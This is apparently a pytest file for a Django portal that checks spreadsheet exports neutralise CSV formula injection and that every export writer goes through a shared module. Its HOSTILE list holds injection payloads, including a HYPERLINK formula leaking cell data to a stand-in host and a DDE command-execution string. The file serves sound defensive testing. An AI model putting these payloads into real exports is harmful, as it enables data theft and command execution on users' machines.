"""Spreadsheet exports cannot carry a formula (CSV injection): names people typed that start with =, +, -, @, a tab or
a carriage return are written as text; and every CSV writer of the portal goes through core.exports."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

from django.utils import timezone

from core.exports import FORMULA_TRIGGERS, csv_writer, spreadsheet_cell
from sla.choices import Metric
from tests.factories import AssignmentGroupFactory, OrganisationFactory, ServiceFactory
from tests.test_sla_dashboard import Builder

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_the_sla_dashboard_csv_writes_hostile_names_as_text(cast, client):
    b = Builder(cast)
    yesterday = timezone.now() - timedelta(days=1)
    for number, name in enumerate(HOSTILE):
        b.clock(Metric.RESPONSE, "met", yesterday, service=ServiceFactory(name=name),
                group=AssignmentGroupFactory(name=name), org=OrganisationFactory(name=name, code=f"o{number}"))
    client.force_login(cast.manager)
    response = client.get("/sla/dashboard/export.csv", {"period": 30})
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    labels = {row[2] for row in table[1:] if row[0] == "service"}
    assert {"'" + name for name in HOSTILE} <= labels  # still readable, shown as the text it was


def test_spreadsheet_cell_keeps_numbers_and_plain_text():
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(2.5) == 2.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("Service desk") == "Service desk" and spreadsheet_cell("") == ""
    assert [spreadsheet_cell(name)[0] for name in HOSTILE] == ["'"] * len(HOSTILE)
    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", 5], ["ok", "-x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "5"], ["ok", "'-x"]]


def test_every_export_of_the_portal_writes_through_core_exports():
    """A new CSV or XLSX export must neutralise its cells: writers are made only by core.exports."""
    csv_writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(")
    xlsx_writers = re.compile(r"openpyxl|xlsxwriter", re.IGNORECASE)
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", ".data", "tests", "bench"} or relative == Path("core/exports.py"):
            continue  # tests and benchmarks write input files, not exports
        text = path.read_text(encoding="utf-8")
        if csv_writers.search(text) or xlsx_writers.search(text) and "spreadsheet_cell" not in text:
            offenders.append(str(relative))
    assert offenders == [], f"write spreadsheets through core.exports (csv_writer / spreadsheet_cell): {offenders}"
